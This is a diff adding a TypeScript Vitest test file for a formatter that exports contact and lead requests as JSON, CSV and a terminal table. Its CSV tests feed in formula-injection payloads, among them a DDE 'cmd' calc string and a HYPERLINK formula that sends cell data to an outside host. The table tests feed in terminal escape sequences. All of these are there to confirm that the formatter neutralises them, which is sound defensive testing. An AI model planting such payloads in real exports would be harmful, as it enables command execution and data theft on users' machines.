@@ -1,0 +1,106 @@
+// @vitest-environment node
+import { describe, expect, test } from 'vitest'
+import { contactRequest, leadRequest } from '../../tests/sample-requests'
+import { formatLeads } from './leads-format'
+import type { MailRequest } from './mail-request'
+
+const received = '2026-03-01T12:30:00.000Z'
+
+describe('as JSON', () => {
+  test('everything is there', () => {
+    const requests = [contactRequest({ message: 'a\r\n\u0000\u001B[31m\uD800"=1+1,;👩‍👩‍👧‍👦' }), leadRequest()]
+    const json = formatLeads(stored(...requests), 'json')
+    expect(JSON.parse(json)).toEqual(requests.map((request) => ({ received, ...request })))
+    expect(json.endsWith(']\n')).toBe(true)
+  })
+
+  test('nothing is an empty list', () => {
+    expect(JSON.parse(formatLeads([], 'json'))).toEqual([])
+  })
+})
+
+describe('as CSV', () => {
+  test('there is a column for each field of either kind, for Excel in UTF-8', () => {
+    const [head, ...rows] = formatLeads(stored(contactRequest({ message: 'x' }), leadRequest()), 'csv')
+      .trimEnd()
+      .split('\n')
+    expect(head).toBe('\u{FEFF}received,name,email,phone,company,role,state,message,origin')
+    expect(rows).toEqual([
+      `${received},Maria Silva,maria@exemplo.com.br,'+55 (11) 91234-5678,Construtora Exemplo,Engenheira,,x,${contactRequest().origin}`,
+      `${received},João Souza,joao@exemplo.com.br,'+55 (62) 3333-4444,,,Goiás,,${leadRequest().origin}`,
+    ])
+  })
+
+  test.each([
+    "=cmd|' /C calc'!A0",
+    '+1',
+    '-1',
+    '@SUM(A1)',
+    '=HYPERLINK("https://other.example?"&A1,"x")',
+    '\t=1',
+    '\r=1',
+  ])('%j is no formula', (text) => {
+    const [, row] = cells(formatLeads(stored(contactRequest({ name: text })), 'csv'))
+    expect(row?.[1]).toBe(`'${text}`)
+  })
+
+  test('separators, quotes and line breaks stay in their field', () => {
+    const message = 'a,b;"c"\n"d\r\n",=1'
+    const [, row, ...rest] = cells(formatLeads(stored(contactRequest({ message })), 'csv'))
+    expect(row?.[7]).toBe(message)
+    expect(rest).toEqual([])
+  })
+
+  test('40,000 letters are whole', () => {
+    const message = 'ç'.repeat(40_000)
+    const [, row] = cells(formatLeads(stored(contactRequest({ message })), 'csv'))
+    expect(row?.[7]).toBe(message)
+  })
+
+  test('nothing is the names of the columns', () => {
+    expect(cells(formatLeads([], 'csv'))).toHaveLength(1)
+  })
+})
+
+describe('as a table', () => {
+  test('each request is a line, and they are counted', () => {
+    const table = formatLeads(stored(contactRequest(), leadRequest()), 'table')
+    expect(table).toMatch(/│ received +│ name +│ email +│ phone +│ company +│ state +│ message +│/)
+    expect(table).toMatch(/│ Maria Silva +│.*│ Preciso de um orçamento\. Obrigada\. │/)
+    expect(table).toMatch(/│ João Souza +│.*│ Goiás +│/)
+    expect(table.endsWith('\n2 in all.\n')).toBe(true)
+  })
+
+  test('what is long is cut, and looks so', () => {
+    const table = formatLeads(stored(contactRequest({ message: '🙂'.repeat(41), company: 'x'.repeat(40) })), 'table')
+    expect(table).toContain(`${'🙂'.repeat(39)}…`)
+    expect(table).toContain('x'.repeat(40))
+    expect(Math.max(...table.split('\n').map((line) => line.length))).toBeLessThan(250)
+  })
+
+  test('nothing in it acts on the terminal', () => {
+    const nasty = 'a\u001B[2Jb\u0007c\u0000d\u009B31me\u202Ef\rg\nh\u2028i\u007F'
+    const table = formatLeads(stored(contactRequest({ name: nasty, company: nasty, message: nasty })), 'table')
+    expect(table.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
+    expect(table).toContain('a\u{FFFD}[2Jb\u{FFFD}c\u{FFFD}d\u{FFFD}31me\u{FFFD}f g h i\u{FFFD}')
+    expect(table.split('\n').filter((line) => line.includes('│'))).toHaveLength(2)
+  })
+
+  test('nothing is said in words', () => {
+    expect(formatLeads([], 'table')).toBe('There are none.\n')
+  })
+})
+
+function stored(...requests: MailRequest[]) {
+  return requests.map((request, index) => ({ id: index + 1, receivedAt: Date.parse(received), isSpam: false, request }))
+}
+
+/** Reads CSV as spreadsheets do. */
+function cells(csv: string): string[][] {
+  const rows: string[][] = [[]]
+  for (const [, quoted, plain = '', end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\n]*))(,|\n)/g)) {
+    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain)
+    if (end === '\n') rows.push([])
+  }
+  return rows.slice(0, -1)
+}
